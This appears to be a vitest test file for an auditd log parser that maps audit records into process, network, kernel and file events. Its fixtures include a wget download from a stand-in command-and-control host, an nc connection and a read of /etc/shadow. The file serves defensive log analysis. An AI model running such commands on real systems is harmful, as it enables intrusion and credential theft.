import { expect, test } from 'vitest'
import { readRecord } from './read-record.ts'

const around = { zone: 'UTC', receivedAt: Date.parse('2026-11-22T03:00:00Z') }
const line = (type: string, rest: string) => `type=${type} msg=audit(1795316400.965:7): ${rest}`

function read(...lines: string[]) {
  const found = readRecord(lines.join('\n'), 'auto', around)
  if (!found.ok) throw new Error(found.detail)
  return found
}

test('a command is one event: who ran it, where, what, and every field for rules', () => {
  const { draft, record, format } = read(
    line(
      'SYSCALL',
      'syscall=59 success=yes a0=55d1 ppid=2 pid=3 auid=1000 comm="wget" exe="/usr/bin/wget" key="run"',
    ),
    line('EXECVE', 'argc=2 a0="wget" a1="http://c2.example/x"'),
    line('CWD', 'cwd="/tmp"'),
    line('PATH', 'item=0 name="/usr/bin" nametype=PARENT'),
    line('PATH', 'item=1 name="/usr/bin/wget" nametype=NORMAL'),
    line('PROCTITLE', 'proctitle="wget"'),
  )
  expect(format).toBe('auditd')
  expect(draft).toMatchObject({
    class: 'process_activity',
    activity: 1,
    event_code: 'EXECVE',
    status: 'success',
    user: { uid: '1000' },
    process: {
      name: 'wget',
      pid: 3,
      cmd_line: 'wget http://c2.example/x',
      working_directory: '/tmp',
      file: { path: '/usr/bin/wget' },
    },
    file: { path: '/usr/bin/wget' },
    unmapped: { key: 'run', syscall: '59', nametype: ['PARENT', 'NORMAL'] },
    time: 1_795_316_400_965,
  })
  expect(record).toMatchObject({
    type: ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE'],
    a0: ['55d1', 'wget'],
    a1: 'http://c2.example/x',
    audit_id: '7',
    key: 'run',
  })
})

test('a connection, a refusal and a file touched are told by the record that says so', () => {
  const call = line('SYSCALL', 'success=no exe="/usr/bin/nc" pid=9')
  expect(
    read(call, line('SOCKADDR', 'saddr=0200115CC0000205000000000000000000')).draft,
  ).toMatchObject({
    class: 'network_activity',
    status: 'failure',
    dst_endpoint: { ip: '192.0.2.5' },
    process: { pid: 9 },
  })
  expect(read(line('AVC', 'avc: denied { read } for pid=9'), call).draft).toMatchObject({
    class: 'kernel_activity',
    severity: 2,
    event_code: 'AVC',
    process: { pid: 9 },
  })
  expect(read(call, line('PATH', 'name="/etc/shadow"')).draft).toMatchObject({
    class: 'file_activity',
    file: { path: '/etc/shadow' },
  })
})

test('lines that do not belong together are read as their first, as ever; names of the prototype are fields', () => {
  const found = read(line('CWD', 'cwd="/a"'), 'type=CWD msg=audit(2.000:8): cwd="/b"')
  expect(found.draft.event_code).toBe('CWD')
  const { record } = read(line('SYSCALL', '__proto__=x'), line('CWD', '__proto__=y toString=1'))
  expect(Object.hasOwn(record, '__proto__')).toBe(true)
  expect(({} as Record<string, unknown>)['x']).toBeUndefined()
})
